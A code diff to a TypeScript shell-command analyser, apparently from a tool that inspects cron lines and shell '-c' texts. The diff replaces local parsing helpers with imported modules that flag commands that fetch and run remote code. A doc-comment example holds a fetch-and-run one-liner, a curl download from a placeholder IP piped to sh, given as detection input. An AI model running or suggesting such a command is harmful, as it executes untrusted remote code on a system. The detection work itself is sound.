@@ -1,18 +1,20 @@
 import { show, unshow } from '../show.ts';
 import type { FetchAddress, Shown } from '../snapshot.ts';
-import { basename, isInterpreter, isShell } from './programs.ts';
+import { basename } from './programs.ts';
 import { scriptFacts } from './script-facts.ts';
-import type { Pipeline, SimpleCommand } from './shell-words.ts';
-import { pipelinesOf } from './shell-words.ts';
+import type { ProgramFacts } from './shell/program-facts.ts';
+import type { Setting } from './shell/what-it-starts.ts';
+import { whatItStarts } from './shell/what-it-starts.ts';
 
 /** What a command (a cron line's, a shell's `-c`) does, as far as linking needs it. */
 export interface CommandFacts {
   readonly fetches: readonly FetchAddress[];
   /** It runs what it fetched: pipes it to an interpreter, evaluates it, or saves and starts it. */
   readonly fetchesAndRuns: boolean;
-  /** Programs and scripts it starts, as written. */
+  readonly program: ProgramFacts;
+  /** Programs and scripts it starts in command position. Small tools are not among them. */
   readonly runs: readonly Shown[];
-  /** Every absolute path that stands in it as a word of its own. */
+  /** Absolute paths that stand in it, started or not. */
   readonly names: readonly Shown[];
 }
 
@@ -26,69 +28,21 @@ export function plain(shown: Shown): string {
   }
 }
 
-const KEYWORD = /^(?:fi|done|esac|\}|then|do|else|elif|if|while|until|!|\{|exec|command|builtin|time)$/;
-const WRAPPER =
-  /^(?:nohup|setsid|nice|ionice|timeout|sudo|doas|env|busybox|toybox|stdbuf|unbuffer|flock|chrt|taskset)$/;
-
-/** The words from the program on that is really run: assignments, keywords and wrappers with their options dropped. */
-function effective(words: readonly string[]): readonly string[] {
-  let at = 0;
-  for (;;) {
-    const word = words[at];
-    if (word === undefined) return [];
-    const name = basename(word);
-    if (KEYWORD.test(word) || /^[A-Za-z_]\w*=/.test(word)) at++;
-    else if (WRAPPER.test(name)) {
-      at++;
-      while (/^-/.test(words[at] ?? ''))
-        at += /^-[nugcskw]$/.test(words[at] ?? '') && name !== 'setsid' ? 2 : 1;
-      if (name === 'timeout' || name === 'flock') at++;
-    } else return words.slice(at);
-  }
-}
-
-interface Run {
-  /** The script or program started; undefined for an interpreter that takes its program from elsewhere. */
-  readonly path?: string;
-  /** Program text among the arguments. */
-  readonly inline?: string;
-}
-
-function runOf(command: SimpleCommand): Run {
-  const [program = '', ...args] = effective(command.words);
-  const name = basename(program);
-  if (name === '.' || name === 'source') return args[0] === undefined ? {} : { path: args[0] };
-  if (name === 'eval') return { inline: args.join(' ') };
-  if (!isInterpreter(name)) return program === '' ? {} : { path: program };
-  for (const [at, arg] of args.entries()) {
-    if (isShell(name) && /^-[a-z]*c$/.test(arg)) return { inline: args[at + 1] ?? '' };
-    if (/^-[cer]$/.test(arg) || (isShell(name) && /^-[a-z]*s/.test(arg)) || arg === '-') return {};
-    if (!arg.startsWith('-')) return { path: arg };
-  }
-  return {};
-}
-
-/** Every command, those within substitutions and `-c` texts included. */
-function commandsOf(pipelines: readonly Pipeline[], depth: number): readonly SimpleCommand[] {
-  if (depth > 4) return [];
-  return pipelines.flat().flatMap((command) => {
-    const inline = runOf(command).inline;
-    const within = inline === undefined ? [] : commandsOf(pipelinesOf(inline), depth + 1);
-    return [command, ...commandsOf(command.substitutions, depth + 1), ...within];
-  });
-}
-
-/** @example commandFacts('curl -fsSL http://198.51.100.7:8443/i.sh | sh').fetchesAndRuns → true */
-export function commandFacts(shown: Shown): CommandFacts {
+/**
+ * @param shown a cron line's command, a shell's `-c` text
+ * @param setting where it runs
+ * @example commandFacts(show('curl -fsSL http://198.51.100.7:8443/i.sh | sh')).fetchesAndRuns → true
+ */
+export function commandFacts(shown: Shown, setting: Setting = {}): CommandFacts {
   const text = plain(shown);
-  const commands = commandsOf(pipelinesOf(text), 0);
-  const { fetches, fetchesAndRuns } = scriptFacts(text);
-  const words = commands.flatMap((command) => [...command.words, ...command.writes]);
+  const { fetches, fetchesAndRuns, paths } = scriptFacts(text);
+  const program = whatItStarts(text, setting);
   return {
     fetches,
-    fetchesAndRuns,
-    runs: commands.flatMap((command) => runOf(command).path ?? []).map((path) => show(path)),
-    names: words.filter((word) => word.startsWith('/')).map((word) => show(word)),
+    fetchesAndRuns: fetchesAndRuns || program.fetchRuns.length > 0,
+    program,
+    runs: program.starts.filter(({ how }) => how === 'command').map(({ path }) => path),
+    names: paths,
   };
 }
 
